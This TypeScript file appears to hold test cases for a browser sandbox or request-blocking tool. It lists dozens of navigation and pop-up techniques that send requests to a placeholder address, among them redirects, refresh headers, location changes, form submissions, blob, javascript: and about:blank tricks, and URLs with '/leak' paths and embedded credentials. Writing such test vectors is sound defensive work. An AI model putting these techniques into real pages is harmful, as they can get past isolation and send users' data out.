/** Ways in which a page navigates to another address, or opens a pop-up. */
import { page, type RequestAttack, script } from './types.ts';

const CLICK = '<script>document.querySelector("a").click()</script>';
const SUBMIT = '<script>document.forms[0].submit()</script>';

export const MOVE_ATTACKS: readonly RequestAttack[] = [
  { what: 'a typed address', opens: '{url}' },
  { what: 'a typed address with a name and password', opens: 'https://user:word@{host}/leak' },
  { what: 'a typed source view', opens: 'view-source:{url}' },
  { what: 'a typed data page', opens: 'data:text/html,<img src={url}>' },
  { what: 'a page that is redirected', files: { page: { status: 302, headers: { Location: '{url}' } } } },
  {
    what: 'a page that is redirected twice',
    files: { page: { status: 301, headers: { Location: 'hop' } }, hop: { status: 308, headers: { Location: '{url}' } } },
  },
  script('a frame that is redirected', 'document.body.append(Object.assign(document.createElement("iframe"), { src: "hop" }))', {
    hop: { status: 303, headers: { Location: '{url}' } },
  }),
  page('a page that refreshes', '<meta http-equiv=refresh content="0;url={url}">'),
  page('a page with a refresh header', 'x', { Refresh: '0;url={url}' }),
  script('a new location', 'location = "{url}"'),
  script('a new location with a name', 'location = "https://user:word@{host}/leak"'),
  script('an assigned location', 'location.assign("{url}")'),
  script('a replaced location', 'location.replace("{url}")'),
  script('a location by the navigation api', 'navigation.navigate("{url}")'),
  script('a location by its host', 'location.host = new URL("{url}").host'),
  page('a location of the parent', '<iframe srcdoc="<script>parent.location = `{url}`</script>"></iframe>'),
  page('a link', `<a href={url}>x</a>${CLICK}`),
  page('a link without a scheme', `<a href=//{host}/leak>x</a>${CLICK}`),
  page('a link for the whole window', `<a target=_top href={url}>x</a>${CLICK}`),
  page(
    'a link in an svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><a href={url}><text y=9>x</text></a></svg><script>document.querySelector("a").dispatchEvent(new MouseEvent("click"))</script>',
  ),
  page('a link that downloads', `<a download href={url}>x</a>${CLICK}`),
  page('a form', `<form action={url}></form>${SUBMIT}`),
  page('a form that posts', `<form method=post action={url}></form>${SUBMIT}`),
  page('a form by its button', '<form><button formaction={url}></form><script>document.querySelector("button").click()</script>'),
  page('a form in a frame', `<iframe name=f></iframe><form target=f method=post action={url}></form>${SUBMIT}`),
  {
    what: 'a form that is redirected',
    files: { page: `<form method=post action=hop></form>${SUBMIT}`, hop: { status: 307, headers: { Location: '{url}' } } },
  },
  page(
    'a picture in a blob page',
    '<script>location = URL.createObjectURL(new Blob(["<img src={url}>"], { type: "text/html" }))</script>',
  ),
  page('a script address', '<script>location = "javascript:fetch(`{url}`)"</script>'),
];

export const POP_UP_ATTACKS: readonly RequestAttack[] = [
  script('a pop-up', 'open("{url}")'),
  script('a pop-up without opener', 'open("{url}", "_blank", "noopener")'),
  script('a pop-up that is not one', 'open("{url}", "_self")'),
  page('a link to a pop-up', `<a target=_blank href={url}>x</a>${CLICK}`),
  page('a link to a pop-up that knows its opener', `<a target=_blank rel=opener href={url}>x</a>${CLICK}`),
  page('a form to a pop-up', `<form target=_blank method=post action={url}></form>${SUBMIT}`),
  script('a blank pop-up that is sent on', 'open("about:blank").location = "{url}"'),
  script('a nameless pop-up that is sent on', 'open().location.replace("{url}")'),
  script('a blank pop-up with a picture', 'open("about:blank").document.body.innerHTML = "<img src={url}>"'),
  script('a blank pop-up that fetches', 'open("about:blank").fetch("{url}", { mode: "no-cors" })'),
  script('a blank pop-up with a WebSocket', 'new (open("about:blank").WebSocket)("{socket}")'),
  script('a written pop-up that moves', 'open().document.write("<script>location = `{url}`</" + "script>")'),
  script('a blob pop-up with a picture', 'open(URL.createObjectURL(new Blob(["<img src={url}>"], { type: "text/html" })))'),
  script('a script pop-up', 'open("javascript:fetch(`{url}`, { mode: `no-cors` })")'),
  page('a pop-up of a frame', '<iframe srcdoc="<script>open(`{url}`)</script>"></iframe>'),
  script('a pop-up that moves its opener', 'open("inner")', { inner: '<script>opener.location = "{url}"</script>' }),
  script('a pop-up that is redirected', 'open("hop")', { hop: { status: 302, headers: { Location: '{url}' } } }),
];
